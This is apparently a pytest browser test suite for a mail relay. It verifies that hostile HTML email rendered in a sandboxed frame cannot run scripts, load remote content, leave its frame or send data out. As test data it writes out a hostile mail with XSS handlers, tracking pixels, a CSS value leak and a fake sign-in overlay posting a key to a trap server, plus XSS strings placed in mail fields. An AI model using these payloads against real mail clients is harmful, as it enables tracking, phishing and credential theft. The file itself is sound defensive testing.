"""Hostile mail: its scripts do not run, it loads nothing remote, and it cannot leave its frame."""

import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from typing import Any

import pytest
from aiohttp import web

from tests.browser.screen import EMPTY, Screen, Site

pytestmark = pytest.mark.asyncio(loop_scope="session")
BLOCKED = ("Content Security Policy", "sandboxed", "Unsafe attempt", "cid:")
"""What the browser logs about actions it blocked."""

type Where = Callable[[Site, str], Awaitable[str]]


class Trap:
    """A server on another origin. `met` records every request and every connection."""

    def __init__(self) -> None:
        self.met: list[str] = []
        self.url = ""

    async def answer(self, request: web.BaseRequest) -> web.Response:
        self.met.append(request.path)
        return web.Response(text="window.top.acted = 1")

    def connected(self, protocol: object) -> None:
        self.met.append("a connection")


@asynccontextmanager
async def trap() -> AsyncIterator[Trap]:
    """Start a trap."""
    caught = Trap()

    class Server(web.Server):
        def connection_made(self, handler: web.RequestHandler, transport: object) -> None:
            caught.connected(handler)
            super().connection_made(handler, transport)  # type: ignore[arg-type]

    runner = web.ServerRunner(Server(caught.answer))
    await runner.setup()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        await web.SockSite(runner, listener).start()
        caught.url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        try:
            yield caught
        finally:
            await runner.cleanup()


def hostile(url: str) -> str:
    """Return the HTML of a hostile mail; `url` is the trap."""
    return f"""\
<!doctype html><html><head>
<base href="{url}/base/">
<meta http-equiv="refresh" content="0;url={url}/refresh">
<link rel="stylesheet" href="{url}/style.css"><LINK rel=preconnect href="{url}"><link rel="dns-prefetch" href="{url}">
<link rel="prefetch" href="{url}/prefetch"><link rel=icon href="{url}/icon.ico">
<style>
@import url("{url}/import.css");
@font-face {{ font-family: stolen; src: url("{url}/font.woff2"); }}
body {{ background: url("{url}/background.png"); font-family: stolen; }}
#cover {{ position: fixed; inset: -100vh -100vw; width: 300vw; height: 300vh; z-index: 2147483647; background: #c00; }}
input[value^="r"] {{ background: url("{url}/leak?r"); }}
</style>
<script>window.top.acted = 1</script><script src="{url}/script.js"></script>
</head><body onload="window.top.acted = 1">
<div id="cover">You are signed out. Enter your key:
<form action="{url}/form" method="post"><input name="key" value="relay"><button>Sign in</button></form></div>
<img src="{url}/pixel.gif" srcset="{url}/pixel2.gif 2x" onerror="window.top.acted = 1">
<img src="x" onerror="window.top.acted = 1"><img src="/v1/health">
<svg onload="window.top.acted = 1"><image href="{url}/svg.png"/><script>window.top.acted = 1</script></svg>
<iframe src="{url}/frame"></iframe><iframe srcdoc="<script>top.acted = 1</script>"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed">
<video src="{url}/video" poster="{url}/poster" autoplay></video><audio src="{url}/audio" autoplay></audio>
<a id="away" href="{url}/away" target="_top" ping="{url}/ping">away</a> <a id="here" href="{url}/here">here</a>
<a id="act" href="javascript:window.top.acted=1">act</a> <a id="new" href="{url}/new" target="_blank">new</a>
<p id="seen">The mail is displayed.</p>
</body></html>"""


async def in_the_inbox(site: Site, subject: str) -> str:
    _, listed, _ = await site.relay.call("GET", "/v1/inbox", params={"subject": subject})
    return f"/inbox#{listed['value'][0]['name']}"


async def in_the_console(site: Site, subject: str) -> str:
    _, listed, _ = await site.relay.call("GET", "/v1/messages")
    return f"/console#/messages/{next(each['id'] for each in listed['value'] if each['subject'] == subject)}"


async def delete(screen: Screen, subject: str) -> None:
    """Close and delete a hostile mail. Forgets what the browser blocked: the trap says whether a request was sent."""
    await screen.go(EMPTY)
    await screen.site.relay.call("DELETE", "/v1/inbox", params={"subject": subject})
    screen.log[:] = screen.unexpected_log(*BLOCKED)
    screen.requested.clear()


@pytest.mark.parametrize("where", [in_the_inbox, in_the_console])
async def test_hostile_mail_in_its_frame_is_harmless(screen: Screen, where: Where) -> None:
    site, subject = screen.site, f"You have won, {where.__name__}"
    async with trap() as caught:
        await site.send(subject=subject, html=hostile(caught.url))
        await screen.go(await where(site, subject), subject)
        frame = screen.page.frame_locator("iframe[title='Rendered message']")
        await frame.locator("#seen").wait_for()
        address = screen.page.url
        for link in ("act", "away", "new"):
            await frame.locator(f"#{link}").dispatch_event("click")
        await frame.locator("button").dispatch_event("click")
        await frame.locator("#here").dispatch_event("click")
        await screen.page.get_by_role("tab", name="Text").click()
        await screen.page.get_by_role("tab", name="Rendered").click()
        await frame.locator("#seen").wait_for()
        assert caught.met == []
        assert await screen.page.evaluate("window.acted") is None
        assert screen.page.url == address
        assert len(screen.context.pages) == 1
        assert await screen.heading(subject).is_visible()
        assert screen.log != []
        await screen.page.get_by_role("tab", name="Links").click()
        await screen.page.get_by_role("cell", name=f"{caught.url}/away").wait_for()
        await delete(screen, subject)
        assert caught.met == []


async def test_hostile_mail_opened_as_a_page_is_harmless(visitor: Screen) -> None:
    site = visitor.site
    async with trap() as caught:
        name = await site.send(subject="Alone", html=hostile(caught.url))
        _, content, _ = await site.relay.call("GET", f"/v1/messages/{name}/content")
        await visitor.page.goto(content["html_url"])
        await visitor.page.locator("#seen").wait_for()
        assert await visitor.page.evaluate("() => [window.acted, window.origin]") == [None, "null"]
        await delete(visitor, "Alone")
        assert caught.met == []


async def test_markup_in_mail_fields_is_shown_as_text(screen: Screen) -> None:
    subject = "<img src=x onerror=alert(1)> & <b>bold</b>"
    sender = {"email": "orders@shop.example", "name": "<script>alert(1)</script>"}
    files = [{"name": "<b>file.txt", "content": "aGVsbG8=", "type": "text/plain"}]
    fields: dict[str, Any] = {"from": sender, "subject": subject, "attachments": files, "text": "<i>text</i>"}
    name = await screen.site.send(**fields)
    await screen.go(f"/console#/messages/{name}", subject)
    await screen.page.get_by_text("<i>text</i>").wait_for()
    await screen.page.get_by_text("<script>alert(1)</script> <orders@shop.example>").wait_for()
    await screen.page.get_by_role("tab", name="Attachments (1)").click()
    await screen.page.get_by_text("<b>file.txt").wait_for()
    await screen.go(await in_the_inbox(screen.site, subject), subject)
    await screen.press("Delete")
    await screen.toast("Message deleted.")
